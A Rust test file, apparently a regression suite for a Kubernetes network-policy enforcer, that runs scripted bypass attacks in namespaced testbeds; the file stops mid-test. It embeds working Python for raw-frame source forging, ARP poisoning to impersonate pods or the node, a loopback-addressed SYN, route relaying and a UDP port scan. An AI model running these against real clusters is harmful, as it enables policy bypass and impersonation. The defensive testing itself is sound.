//! The bypass suite: attacks a hostile pod tried on the testbed, scripted, so that each stays
//! closed. Every attack runs against real network namespaces with the real portcullis-init rules,
//! real proxies and the real controller, from inside the attacker pod's namespace as root (what a
//! pod with a root process and a few capabilities can do). Needs root.
//!
//! The cluster (`BYPASS`): `att/attacker` is under default deny both ways; `mid/relay` is open and
//! runs an application bound to 127.0.0.1 only; `tgt/target` admits only the `mid` namespace
//! (a rule without `ports`, so it also admits the relay's port-less protocols: UDP-Lite, GRE ...).

use std::fs;
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const BYPASS: &str = r#"
apiVersion: v1
kind: Namespace
metadata: {name: att}
---
apiVersion: v1
kind: Namespace
metadata: {name: mid, labels: {zone: mid}}
---
apiVersion: v1
kind: Namespace
metadata: {name: tgt}
---
apiVersion: v1
kind: Pod
metadata: {name: attacker, namespace: att, labels: {app: attacker}}
spec: {containers: [{name: c, ports: [{containerPort: 443}]}]}
status: {podIP: 10.250.1.10, hostIP: 10.250.0.1}
---
apiVersion: v1
kind: Pod
metadata: {name: relay, namespace: mid, labels: {app: relay}}
spec: {containers: [{name: c, ports: [{containerPort: 443}, {containerPort: 5353, protocol: UDP}]}]}
status: {podIP: 10.250.2.10, hostIP: 10.250.0.1}
---
apiVersion: v1
kind: Pod
metadata: {name: target, namespace: tgt, labels: {app: target}}
spec: {containers: [{name: c, ports: [{containerPort: 443}]}]}
status: {podIP: 10.250.3.10, hostIP: 10.250.0.1}
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: default-deny, namespace: att}
spec: {podSelector: {}, policyTypes: [Ingress, Egress]}
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: only-mid, namespace: tgt}
spec:
  podSelector: {}
  ingress: [{from: [{namespaceSelector: {matchLabels: {zone: mid}}}]}]
"#;

const ATTACKER: &str = "att/attacker";
const RELAY: &str = "mid/relay";
const TARGET: &str = "tgt/target";

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .unwrap()
        .to_path_buf()
}

fn portcullis(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_portcullis"))
        .args(args)
        .current_dir(repo())
        .output()
        .expect("run portcullis")
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn require_root() {
    portcullis_netns::testing::require_root(
        "the bypass suite builds network namespaces and iptables rules",
    );
}

fn build_components() {
    portcullis_netns::testing::build_testbed_components(env!("CARGO"), &repo());
}

/// A running testbed of `BYPASS`, taken down when dropped (also on panic).
struct Bed {
    name: String,
    state: serde_json::Value,
    dir: TempDir,
}

struct TempDir(PathBuf);

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

impl Bed {
    fn up(tag: &str) -> Bed {
        require_root();
        build_components();
        let name = format!("by{tag}{}", std::process::id() % 100_000);
        let dir = std::env::temp_dir().join(format!("pc-tb-{name}"));
        fs::create_dir_all(&dir).unwrap();
        let manifest = dir.join("bypass.yaml");
        fs::write(&manifest, BYPASS).unwrap();
        let _ = portcullis(&["testbed", "down", "--name", &name]);
        let up = portcullis(&[
            "testbed",
            "up",
            "--name",
            &name,
            "-f",
            manifest.to_str().unwrap(),
        ]);
        let mut bed = Bed {
            name,
            state: serde_json::Value::Null,
            dir: TempDir(dir),
        };
        assert!(
            up.status.success(),
            "testbed up failed:\n{}\n{}",
            text(&up.stdout),
            text(&up.stderr)
        );
        let state = fs::read_to_string(
            Path::new("/run/portcullis/testbed")
                .join(&bed.name)
                .join("state.json"),
        )
        .expect("testbed state");
        bed.state = serde_json::from_str(&state).expect("state JSON");
        bed
    }

    fn pod(&self, key: &str) -> (String, IpAddr) {
        let pod = self.state["pods"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["key"] == key)
            .unwrap_or_else(|| panic!("{key} is not in the testbed"));
        (
            pod["netns"].as_str().unwrap().to_string(),
            pod["ip"].as_str().unwrap().parse().unwrap(),
        )
    }

    /// Runs a Python program in `pod`'s network namespace, as `uid` (root when `None`). The
    /// interpreter starts as root and drops to `uid` itself (it may live under root's home).
    fn python(&self, pod: &str, uid: Option<u32>, program: &str, args: &[&str]) -> Output {
        let (netns, _) = self.pod(pod);
        let program = match uid {
            Some(uid) => format!(
                "import os, socket, struct, sys, time\nos.setgroups([])\nos.setgid({uid})\nos.setuid({uid})\n{program}"
            ),
            None => program.to_string(),
        };
        Command::new("ip")
            .args(["netns", "exec", &netns, "python3", "-c", &program])
            .args(args)
            .output()
            .expect("run python3")
    }

    fn sh(&self, pod: &str, args: &[&str]) -> Output {
        let (netns, _) = self.pod(pod);
        Command::new("ip")
            .args(["netns", "exec", &netns])
            .args(args)
            .output()
            .expect("run a command in the pod")
    }

    /// Everything the pod's proxy logged.
    fn proxy_log(&self, key: &str) -> String {
        let pod = self.state["pods"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["key"] == key)
            .unwrap();
        fs::read_to_string(pod["proxy_log"].as_str().unwrap()).unwrap_or_default()
    }
}

impl Drop for Bed {
    fn drop(&mut self) {
        let _ = portcullis(&["testbed", "down", "--name", &self.name]);
    }
}

/// Connects to argv[1]:argv[2], says hello, prints what came back (or the error).
const CONNECT: &str = r#"
import socket, sys
s = socket.socket()
s.settimeout(3)
try:
    s.connect((sys.argv[1], int(sys.argv[2])))
    s.sendall(b"probe\n")
    print("ANSWER", s.recv(200).decode().strip())
except Exception as e:
    print("FAILED", type(e).__name__, e)
"#;

fn answer(out: &Output) -> Option<String> {
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("ANSWER") || stdout.contains("FAILED"),
        "the probe did not run: {stdout}{}",
        text(&out.stderr)
    );
    stdout
        .lines()
        .find_map(|l| l.strip_prefix("ANSWER "))
        .map(str::to_string)
        .filter(|a| !a.is_empty())
}

/// Issue 12 §1: a pod under default deny routes a connection for the target through a neighbour
/// whose ingress the target trusts. Before the fix the neighbour's inbound proxy connected
/// wherever SO_ORIGINAL_DST pointed and spliced: the attacker read the target's answer.
#[test]
fn a_pod_cannot_relay_through_a_neighbours_inbound_proxy() {
    let bed = Bed::up("r");
    let (_, relay_ip) = bed.pod(RELAY);
    let (_, target_ip) = bed.pod(TARGET);
    let target = target_ip.to_string();

    // Sanity: the neighbour itself reaches the target, and the attacker, even running as the
    // proxy's UID (no longer exempt from its own redirect without the proxy's mark, see
    // `a_process_running_as_the_proxy_uid_is_checked_like_any_other`), is refused.
    let relay_direct = bed.python(RELAY, None, CONNECT, &[&target, "443"]);
    assert_eq!(answer(&relay_direct).as_deref(), Some(TARGET));
    let direct = bed.python(ATTACKER, Some(2171), CONNECT, &[&target, "443"]);
    assert_eq!(
        answer(&direct),
        None,
        "the target's ingress must refuse att"
    );

    // The attack: the target's address routed via the neighbour, over the shared bridge.
    let route = bed.sh(
        ATTACKER,
        &[
            "ip",
            "route",
            "replace",
            &format!("{target}/32"),
            "via",
            &relay_ip.to_string(),
            "dev",
            "eth0",
            "onlink",
        ],
    );
    assert!(route.status.success(), "{}", text(&route.stderr));
    let relayed = bed.python(ATTACKER, Some(2171), CONNECT, &[&target, "443"]);
    assert_eq!(
        answer(&relayed),
        None,
        "the attacker reached the target through the neighbour's proxy: {}",
        text(&relayed.stdout)
    );
    // Nothing addressed elsewhere may be served by the neighbour's proxy. (Before the fix it
    // took the connection and tried the target: on IPv4 the connect from 127.0.0.6 failed by
    // luck, on IPv6 it went through.) The only acceptable trace is a refusal.
    let log = bed.proxy_log(RELAY);
    let served: Vec<serde_json::Value> = log_lines(&log)
        .into_iter()
        .filter(|l| {
            l["dst_ip"] == target.as_str()
                && l["dst_port"] == 443
                && l["event"] != "connection_refused"
        })
        .collect();
    assert!(
        served.is_empty(),
        "the neighbour's proxy handled a connection addressed to the target:\n{served:?}"
    );
}

/// Sends one SYN over AF_PACKET (the sender's netfilter never sees it) to the neighbour's MAC,
/// addressed to 127.0.0.1:7777, then reports whether the neighbour answered anything.
const LOOPBACK_SYN: &str = r#"
import socket, struct, sys, time
src_ip, dst_mac = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", ""))
def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return (~s) & 0xffff
src = socket.inet_aton(src_ip); dst = socket.inet_aton("127.0.0.1")
tcp = struct.pack("!HHIIBBHHH", 40404, 7777, 1000, 0, 5 << 4, 0x02, 64240, 0, 0)
pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0, src, dst)
ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
my_mac = s.getsockname()[4]
for _ in range(3):
    s.send(dst_mac + my_mac + b"\x08\x00" + ip + tcp)
    time.sleep(0.2)
print("SENT")
"#;

/// Issue 12 §1: a SYN to 127.0.0.1 arriving on eth0 was redirected to the inbound proxy (nat
/// PREROUTING runs before the routing decision that would drop it as a martian), and the proxy
/// then connected to the pod's localhost-only application.
#[test]
fn a_frame_addressed_to_loopback_never_reaches_the_proxy() {
    let bed = Bed::up("l");
    let (_, attacker_ip) = bed.pod(ATTACKER);
    let mac = bed.sh(RELAY, &["cat", "/sys/class/net/eth0/address"]);
    let mac = text(&mac.stdout).trim().to_string();
    assert_eq!(mac.len(), 17, "no MAC for the relay");

    let sent = bed.python(
        ATTACKER,
        None,
        LOOPBACK_SYN,
        &[&attacker_ip.to_string(), &mac],
    );
    assert!(
        text(&sent.stdout).contains("SENT"),
        "{}",
        text(&sent.stderr)
    );
    std::thread::sleep(std::time::Duration::from_millis(300));
    // Had the SYN been redirected, the proxy's listener would hold a half-open connection from
    // the attacker (its SYN-ACK sent back with source 127.0.0.1) for a few seconds.
    let ss = bed.sh(RELAY, &["ss", "-tanH", "state", "syn-recv"]);
    let half_open = text(&ss.stdout);
    assert!(
        !half_open.contains(&attacker_ip.to_string()),
        "a SYN addressed to 127.0.0.1 reached a listener of the neighbour:\n{half_open}"
    );
}

/// Says whether argv[1]:argv[2] answered (a UDP datagram), after sending one.
const UDP_PROBE: &str = r#"
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
try:
    s.sendto(b"probe\n", (sys.argv[1], int(sys.argv[2])))
    print("ANSWER", s.recv(200).decode().strip())
except Exception as e:
    print("FAILED", type(e).__name__, e)
"#;

/// Issue: the init rules exempted the proxy's UID alone, so any process of the pod running as
/// 2171 (an image whose Dockerfile says `USER 2171`, which the injector cannot see; an ephemeral
/// debug container) connected anywhere unchecked. With the proxy's mark (`PORTCULLIS_PROXY_MARK`,
/// set on both when the proxy has NET_ADMIN) only the proxy's own marked sockets are exempt.
#[test]
fn a_process_running_as_the_proxy_uid_is_checked_like_any_other() {
    let bed = Bed::up("u");
    let (attacker_ns, _) = bed.pod(ATTACKER);
    let (_, relay_ip) = bed.pod(RELAY);
    let (_, target_ip) = bed.pod(TARGET);
    let relay = relay_ip.to_string();

    // The testbed, as the injector, gave init and proxy the mark.
    let rules = bed.sh(ATTACKER, &["iptables-save", "-t", "nat"]);
    assert!(
        text(&rules.stdout).contains(
            "-A PORTCULLIS_OUTPUT -m owner --uid-owner 2171 -m mark --mark 0x1000/0x1000 -j RETURN"
        ),
        "{attacker_ns}: {}",
        text(&rules.stdout)
    );

    // The attack: att/attacker (egress denied) runs as UID 2171 and connects to the relay, whose
    // ingress is open. Before the fix it went straight out and the relay answered.
    let attack = bed.python(ATTACKER, Some(2171), CONNECT, &[&relay, "443"]);
    assert_eq!(
        answer(&attack),
        None,
        "a process running as the proxy's UID got past the attacker's egress policy: {}",
        text(&attack.stdout)
    );
    // It was redirected to the attacker's own proxy, which denied it.
    let log = bed.proxy_log(ATTACKER);
    assert!(
        denied_lines(&log)
            .iter()
            .any(|l| l["dst_ip"] == relay.as_str()
                && l["dst_port"] == 443
                && l["direction"] == "egress"),
        "the attacker's proxy did not deny {relay}:443:\n{log}"
    );
    // The same over UDP: the first packet goes to the attacker's queue, and is dropped. (The
    // relay answers UDP 5353 to a pod whose egress is open: the target.)
    let open = bed.python(TARGET, None, UDP_PROBE, &[&relay, "5353"]);
    assert_eq!(
        answer(&open).as_deref(),
        Some(RELAY),
        "{}",
        text(&open.stdout)
    );
    let udp = bed.python(ATTACKER, Some(2171), UDP_PROBE, &[&relay, "5353"]);
    assert_eq!(answer(&udp), None, "UDP as UID 2171: {}", text(&udp.stdout));
    let log = bed.proxy_log(ATTACKER);
    assert!(
        log.lines().any(
            |l| l.contains(&format!("\"dst_ip\":\"{relay}\",\"dst_port\":5353"))
                && l.contains("UDP")
        ),
        "the attacker's proxy did not judge {relay}:5353/UDP:\n{log}"
    );

    // The proxies' own marked connections still work: the relay's app reaches the target through
    // the relay's outbound proxy (upstream marked) and the target's inbound proxy (its
    // connection to the app marked), as does the relay's proxy with the controller (the bed is
    // up and enforcing from the controller's tables).
    let allowed = bed.python(RELAY, None, CONNECT, &[&target_ip.to_string(), "443"]);
    assert_eq!(answer(&allowed).as_deref(), Some(TARGET));
}

/// A UDP flow that lives across a policy change: sends once and waits for the answer (the flow is
/// established), prints `ESTABLISHED`, waits for a line on stdin, then sends a probe every 0.3 s
/// for 3 s on the same socket and prints how many were answered.
const LONG_FLOW: &str = r#"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(0.3)
peer = (sys.argv[1], int(sys.argv[2]))
s.sendto(b"probe\n", peer)
try:
    s.recv(200)
    print("ESTABLISHED", flush=True)
except Exception as e:
    print("FAILED", e, flush=True)
    sys.exit(0)
sys.stdin.readline()
answered = 0
for _ in range(10):
    try:
        # A datagram the pod's rules drop may fail at once (EPERM): not answered either.
        s.sendto(b"probe\n", peer)
        s.recv(200)
        answered += 1
    except Exception:
        pass
print("ANSWERED", answered, flush=True)
"#;

/// Issue 20 §4: revocation skipped the UDP flows of every socket owned by the proxy's UID (it
/// took them for the proxy's own lookups), so an application running as 2171 kept a flow the new
/// policy denied. Now the proxy's own sockets are recognised as its own descriptors, and the
/// application's flow is cut like any other.
#[test]
fn a_flow_of_an_app_running_as_the_proxy_uid_is_revoked_like_any_other() {
    use std::io::{BufRead, BufReader, Write};
    let bed = Bed::up("rv");
    let (target_ns, _) = bed.pod(TARGET);
    let (_, relay_ip) = bed.pod(RELAY);
    let relay = relay_ip.to_string();
    let program = format!(
        "import os, socket, sys\nos.setgroups([])\nos.setgid(2171)\nos.setuid(2171)\n{LONG_FLOW}"
    );
    let mut app = Command::new("ip")
        .args(["netns", "exec", &target_ns, "python3", "-c", &program])
        .args([relay.as_str(), "5353"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("python3");
    let mut out = BufReader::new(app.stdout.take().expect("stdout"));
    let mut line = String::new();
    out.read_line(&mut line).expect("first line");
    assert_eq!(
        line.trim(),
        "ESTABLISHED",
        "tgt/target's egress is open: its flow to {relay}:5353 should be answered"
    );

    // The policy change: tgt/target may send nothing any more.
    let deny = bed.dir.0.join("deny-egress.yaml");
    fs::write(
        &deny,
        "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\n\
         metadata: {name: no-egress, namespace: tgt}\n\
         spec: {podSelector: {}, policyTypes: [Egress]}\n",
    )
    .unwrap();
    let applied = portcullis(&[
        "testbed",
        "apply",
        "--name",
        &bed.name,
        "-f",
        deny.to_str().unwrap(),
    ]);
    assert!(applied.status.success(), "{}", text(&applied.stderr));
    // The sweep runs when the table changes (twice, 200 ms apart): give it a moment.
    std::thread::sleep(std::time::Duration::from_millis(800));
    writeln!(app.stdin.as_mut().expect("stdin"), "go").expect("signal");
    line.clear();
    out.read_line(&mut line).expect("result line");
    let _ = app.wait();
    assert_eq!(
        line.trim(),
        "ANSWERED 0",
        "an application running as UID 2171 kept a UDP flow the new policy denies"
    );
    let log = bed.proxy_log(TARGET);
    assert!(
        log_lines(&log)
            .iter()
            .any(|l| l["event"] == "connection_terminated"
                && l["dst_ip"] == relay.as_str()
                && l["dst_port"] == 5353
                && l["protocol"] == "UDP"),
        "no connection_terminated line for the app's flow to {relay}:5353:\n{log}"
    );
}

/// Sends one UDP datagram to argv[1] on every port from argv[2] to argv[3], as fast as it can.
const UDP_SCAN: &str = r#"
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for port in range(int(sys.argv[2]), int(sys.argv[3])):
    s.sendto(b"x", (sys.argv[1], port))
print("ANSWER sent")
"#;

/// Every JSON line of a proxy log, parsed.
fn log_lines(log: &str) -> Vec<serde_json::Value> {
    log.lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .collect()
}

/// The `connection_denied` lines of a proxy log, parsed.
fn denied_lines(log: &str) -> Vec<serde_json::Value> {
    log_lines(log)
        .into_iter()
        .filter(|v| v["event"] == "connection_denied")
        .collect()
}

/// Issue 20 §6: the audit log could be flooded: every (peer, port) is a new key to the windows
/// that sum repeats, so forged sources, or a scan of many ports, cost one line each (4,096 per
/// 10 s). Now each event kind has a budget of lines per second (20, bursts of 100); the rest is
/// summed into one `rate_limited` line per second with its count, so nothing goes uncounted.
#[test]
fn a_scan_cannot_flood_the_audit_log() {
    let bed = Bed::up("a");
    let (_, target_ip) = bed.pod(TARGET);
    let scan = bed.python(
        ATTACKER,
        None,
        UDP_SCAN,
        &[&target_ip.to_string(), "20000", "23000"],
    );
    assert!(answer(&scan).is_some(), "{}", text(&scan.stderr));
    // Two flush ticks: the folded line is written at the next one.
    std::thread::sleep(std::time::Duration::from_millis(2500));
    let lines = denied_lines(&bed.proxy_log(ATTACKER));
    let counted: u64 = lines.iter().filter_map(|l| l["count"].as_u64()).sum();
    assert!(
        counted >= 2_700,
        "only {counted} of 3,000 denials are counted in {} lines",
        lines.len()
    );
    assert!(
        lines.len() <= 160,
        "{} connection_denied lines for one scan of 3,000 ports",
        lines.len()
    );
    assert!(
        lines.iter().any(|l| l["rate_limited"] == true),
        "no rate_limited line sums what the budget folded"
    );
    assert!(
        lines
            .iter()
            .all(|l| l["dst_ip"] == target_ip.to_string() && l["dst_port"].is_u64()),
        "every line names the scanned address and its port apart"
    );
}

// ------------------------------------------------------------------------------------------
// Issue 20 §3: forged sources on the node's bridge, and the node guard (`up --node-guard`).
//
// A pod of a namespace without the opt-in (no proxy, root with the NET_RAW that runtimes grant)
// sits on the same bridge as `app/vault`, which admits only `app/friend` (and, as every pod, its
// node, for kubelet's probes). It forges friend's source (UDP), and poisons ARP to complete TCP
// handshakes as friend and as the node. Each attack is shown to work on a testbed without the
// guard (the vault's policy is bypassed: the attacker's own address is refused) and to fail on
// one with it, where friend and the node still reach the vault.
// ------------------------------------------------------------------------------------------

const GUARDED: &str = r#"
apiVersion: v1
kind: Namespace
metadata: {name: app, labels: {portcullis.dev/inject: enabled}}
---
apiVersion: v1
kind: Namespace
metadata: {name: open}
---
apiVersion: v1
kind: Pod
metadata: {name: vault, namespace: app, labels: {app: vault}}
spec: {containers: [{name: c, ports: [{containerPort: 443}]}]}
status: {podIP: 10.251.1.10, hostIP: 10.251.0.1}
---
apiVersion: v1
kind: Pod
metadata: {name: friend, namespace: app, labels: {app: friend}}
spec: {containers: [{name: c, ports: [{containerPort: 443}]}]}
status: {podIP: 10.251.1.20, hostIP: 10.251.0.1}
---
apiVersion: v1
kind: Pod
metadata: {name: spoofer, namespace: open, labels: {app: spoofer}}
spec: {containers: [{name: c}]}
status: {podIP: 10.251.2.10, hostIP: 10.251.0.1}
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: only-friend, namespace: app}
spec:
  podSelector: {matchLabels: {app: vault}}
  policyTypes: [Ingress]
  ingress: [{from: [{podSelector: {matchLabels: {app: friend}}}]}]
"#;

const VAULT: &str = "app/vault";
const FRIEND: &str = "app/friend";
const SPOOFER: &str = "open/spoofer";
/// The pods' hostIP: the node's address on the bridge, allowed by every pod's proxy.
const NODE_IP: &str = "10.251.0.1";
/// A UDP port of the vault no server uses: the test's own socket listens there.
const VAULT_UDP: u16 = 6001;

/// One Ethernet frame with an IPv4 UDP datagram from any source, written on eth0 (AF_PACKET:
/// what NET_RAW allows). argv: source IP, destination IP, destination MAC, port, payload.
const FORGE_UDP: &str = r#"
import socket, struct, sys
src, dst, dst_mac, port, payload = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5].encode()
def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return (~s) & 0xffff
s4, d4 = socket.inet_aton(src), socket.inet_aton(dst)
udp = struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload
c = csum(s4 + d4 + struct.pack("!BBH", 0, 17, len(udp)) + udp) or 0xffff
udp = udp[:6] + struct.pack("!H", c) + udp[8:]
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 7, 0, 64, 17, 0, s4, d4)
ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
me = s.getsockname()[4]
for _ in range(3):
    s.send(bytes.fromhex(dst_mac.replace(":", "")) + me + b"\x08\x00" + ip + udp)
print("SENT")
"#;

/// ARP poisoning while connecting: a thread tells `poisoned` (IP and MAC) that `claimed` is at
/// this pod's MAC (ARP replies and requests, every 100 ms), while the main thread, with
/// `claimed` on its own eth0, connects from it to `victim`:`port` and prints what came back.
/// argv: claimed, poisoned IP, poisoned MAC, victim, port.
const POISONED_CONNECT: &str = r#"
import socket, struct, sys, threading, time
claimed, p_ip, p_mac, victim, port = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5])
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind(("eth0", 0))
me = raw.getsockname()[4]
p_mac_b = bytes.fromhex(p_mac.replace(":", ""))
def arp(op):
    body = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, op, me, socket.inet_aton(claimed),
                       p_mac_b, socket.inet_aton(p_ip))
    return p_mac_b + me + b"\x08\x06" + body
done = False
def poison():
    while not done:
        raw.send(arp(2)); raw.send(arp(1))
        time.sleep(0.1)
t = threading.Thread(target=poison, daemon=True)
t.start()
time.sleep(0.5)
s = socket.socket()
s.settimeout(3)
try:
    s.bind((claimed, 0))
    s.connect((victim, port))
    s.sendall(b"probe\n")
    print("ANSWER", s.recv(200).decode().strip())
except Exception as e:
    print("FAILED", type(e).__name__, e)
done = True
"#;

/// A testbed of `GUARDED`, with or without the node guard; down when dropped (by its `Bed`).
struct GuardBed(Bed);

impl GuardBed {
    fn up(tag: &str, guard: bool) -> GuardBed {
        require_root();
        build_components();
        let status = Command::new(env!("CARGO"))
            .args(["build", "-q", "-p", "portcullis-node-guard"])
            .current_dir(repo())
            .status()
            .expect("run cargo");
        assert!(status.success(), "building portcullis-node-guard failed");
        let name = format!("gd{tag}{}", std::process::id() % 100_000);
        let dir = std::env::temp_dir().join(format!("pc-tb-{name}"));
        fs::create_dir_all(&dir).unwrap();
        let manifest = dir.join("guarded.yaml");
        fs::write(&manifest, GUARDED).unwrap();
        let _ = portcullis(&["testbed", "down", "--name", &name]);
        let mut args = vec!["testbed", "up", "--name", &name, "-f"];
        args.push(manifest.to_str().unwrap());
        if guard {
            args.push("--node-guard");
        }
        let up = portcullis(&args);
        let mut bed = Bed {
            name: name.clone(),
            state: serde_json::Value::Null,
            dir: TempDir(dir),
        };
        assert!(
            up.status.success(),
            "testbed up failed:\n{}",
            text(&up.stderr)
        );
        let path = Path::new("/run/portcullis/testbed")
            .join(&name)
            .join("state.json");
        let state = fs::read_to_string(path).expect("testbed state");
        bed.state = serde_json::from_str(&state).expect("state JSON");
        assert_eq!(bed.state["node_guard"].is_object(), guard, "{state}");
        GuardBed(bed)
    }

    /// `(netns, ip, mac)` of a pod.
    fn pod(&self, key: &str) -> (String, String, String) {
        let pods = self.0.state["pods"].as_array().unwrap();
        let pod = pods.iter().find(|p| p["key"] == key).unwrap();
        let field = |k: &str| pod[k].as_str().unwrap().to_string();
        (field("netns"), field("ip"), field("mac"))
    }

    fn node(&self) -> String {
        self.0.state["node_netns"].as_str().unwrap().to_string()
    }

    /// `cmd` in the network namespace `netns`.
    fn run(&self, netns: &str, cmd: &[&str]) -> Output {
        Command::new("ip")
            .args(["netns", "exec", netns])
            .args(cmd)
            .output()
            .expect("run a command in a namespace")
    }

    fn python(&self, netns: &str, program: &str, args: &[&str]) -> Output {
        let mut cmd = vec!["python3", "-c", program];
        cmd.extend_from_slice(args);
        self.run(netns, &cmd)
    }

    /// The attacker forges a UDP datagram from `src` to the vault's MAC and IP; returns the
    /// sources of what the vault's socket received with that payload.
    fn forged_udp(&self, src: &str, token: &str) -> Vec<String> {
        let (vault_ns, vault_ip, vault_mac) = self.pod(VAULT);
        let (spoofer_ns, _, _) = self.pod(SPOOFER);
        let sock = listen_udp(&vault_ns, &vault_ip);
        let port = VAULT_UDP.to_string();
        let sent = self.python(
            &spoofer_ns,
            FORGE_UDP,
            &[src, &vault_ip, &vault_mac, &port, token],
        );
        assert!(
            text(&sent.stdout).contains("SENT"),
            "{}",
            text(&sent.stderr)
        );
        received_from(&sock, token)
    }

    /// The attacker claims `claimed` by ARP towards `poisoned` (the node for a pod's address,
    /// the vault for the node's) and connects from it to the vault's 443; returns the vault's
    /// answer, if any. Undoes what it set up, and flushes the poisoned caches.
    fn poisoned_connect(&self, claimed: &str, poisoned: (&str, &str)) -> Option<String> {
        let (vault_ns, vault_ip, _) = self.pod(VAULT);
        let (spoofer_ns, _, _) = self.pod(SPOOFER);
        let own = format!("{claimed}/32");
        let ok = |o: Output| assert!(o.status.success(), "{}", text(&o.stderr));
        ok(self.run(&spoofer_ns, &["ip", "addr", "add", &own, "dev", "eth0"]));
        let direct = format!("{vault_ip}/32");
        if claimed == NODE_IP {
            // The node's address is the pod's gateway: reach the vault on the link instead.
            let route = ["ip", "route", "add", &direct, "dev", "eth0", "src", claimed];
            ok(self.run(&spoofer_ns, &route));
        }
        let out = self.python(
            &spoofer_ns,
            POISONED_CONNECT,
            &[claimed, poisoned.0, poisoned.1, &vault_ip, "443"],
        );
        let _ = self.run(&spoofer_ns, &["ip", "route", "del", &direct]);
        ok(self.run(&spoofer_ns, &["ip", "addr", "del", &own, "dev", "eth0"]));
        for ns in [self.node(), vault_ns] {
            let _ = self.run(&ns, &["ip", "neigh", "flush", "all"]);
        }
        answer(&out)
    }

    /// The node's MAC on the bridge (the pods' gateway).
    fn node_mac(&self) -> String {
        let out = self.run(&self.node(), &["cat", "/sys/class/net/br0/address"]);
        text(&out.stdout).trim().to_string()
    }

    /// What a plain connection from `netns` to the vault's 443 gets back.
    fn connect_to_vault(&self, netns: &str) -> Option<String> {
        let (_, vault_ip, _) = self.pod(VAULT);
        answer(&self.python(netns, CONNECT, &[&vault_ip, "443"]))
    }
}

fn listen_udp(netns: &str, ip: &str) -> std::net::UdpSocket {
    let addr: std::net::SocketAddr = format!("{ip}:{VAULT_UDP}").parse().unwrap();
    let sock = portcullis_netns::testing::in_ns(netns, move || std::net::UdpSocket::bind(addr))
        .expect("bind the vault's UDP socket");
    sock.set_read_timeout(Some(std::time::Duration::from_millis(100)))
        .unwrap();
    sock
}

/// The sources of the datagrams carrying `token` that arrive within 1.5 s.
fn received_from(sock: &std::net::UdpSocket, token: &str) -> Vec<String> {
    let deadline = std::time::Instant::now() + std::time::Duration::from_millis(1500);
    let mut from = Vec::new();
    let mut buf = [0u8; 1500];
    while std::time::Instant::now() < deadline {
        if let Ok((n, peer)) = sock.recv_from(&mut buf) {
            if &buf[..n] == token.as_bytes() && !from.contains(&peer.ip().to_string()) {
                from.push(peer.ip().to_string());
            }
        }
    }
    from
}

/// Without the guard, each attack gets through the vault's policy (the test that fails once
/// the bridge checks sources by itself: then the attacks no longer prove anything here).
#[test]
fn without_the_node_guard_a_pod_with_net_raw_forges_sources_on_the_bridge() {
    let bed = GuardBed::up("o", false);
    let (_, friend_ip, _) = bed.pod(FRIEND);
    let (spoofer_ns, spoofer_ip, _) = bed.pod(SPOOFER);
    let (_, vault_ip, vault_mac) = bed.pod(VAULT);
    // The vault's policy holds against the attacker's own address, UDP and TCP.
    assert_eq!(bed.forged_udp(&spoofer_ip, "own"), Vec::<String>::new());
    assert_eq!(bed.connect_to_vault(&spoofer_ns), None);
    // (a) Friend's source, forged: the vault's application receives it as from friend.
    assert_eq!(
        bed.forged_udp(&friend_ip, "forged"),
        vec![friend_ip.clone()]
    );
    // (b) As friend: the node's ARP entry for friend now names the attacker, who completes
    // the handshake and reads the vault's answer.
    let node = (NODE_IP, bed.node_mac());
    assert_eq!(
        bed.poisoned_connect(&friend_ip, (node.0, &node.1))
            .as_deref(),
        Some(VAULT),
        "as friend"
    );
    // (b) As the node, allowed on every port: the vault's ARP entry for its gateway poisoned.
    assert_eq!(
        bed.poisoned_connect(NODE_IP, (&vault_ip, &vault_mac))
            .as_deref(),
        Some(VAULT),
        "as the node"
    );
}

/// With the guard, the same attacks fail; friend and the node still reach the vault.
#[test]
fn the_node_guard_drops_forged_sources_and_arp_poisoning() {
    let bed = GuardBed::up("g", true);
    let table = bed.run(
        &bed.node(),
        &["nft", "list", "table", "bridge", "portcullis_guard"],
    );
